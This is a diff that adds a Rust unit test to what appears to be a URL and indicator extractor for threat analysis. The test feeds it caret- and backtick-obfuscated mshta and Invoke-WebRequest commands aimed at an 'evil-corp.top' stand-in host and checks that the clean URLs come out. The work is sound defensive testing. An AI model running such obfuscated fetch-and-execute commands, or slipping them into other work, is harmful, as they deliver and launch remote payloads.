@@ -133,6 +133,12 @@ fn x20_the_link_of_a_gateway_gives_the_url_inside() {
 }
 
 #[test]
+fn an_address_between_escapes_of_a_shell_is_the_one_that_the_shell_opens() {
+    only("mshta ht^tp://b16.e^vil-corp.top/a\n", &["http://b16.evil-corp.top/a"]);
+    only("iwr h`ttp://b19.e`vil-corp.top/x -OutFile a\n", &["http://b19.evil-corp.top/x"]);
+}
+
+#[test]
 fn x21_links_to_the_service_give_their_object() {
     only(
         "https://www.virustotal.com/gui/file/e17be13af6ab78d87b54117f074492e117e156573e2446ce60f56bdcfa2f7862/detection\nhttps://www.virustotal.com/en/file/e17be13af6ab78d87b54117f074492e117e156573e2446ce60f56bdcfa2f7862/analysis/\nhttps://www.virustotal.com/gui/domain/a.example.net/relations\n",
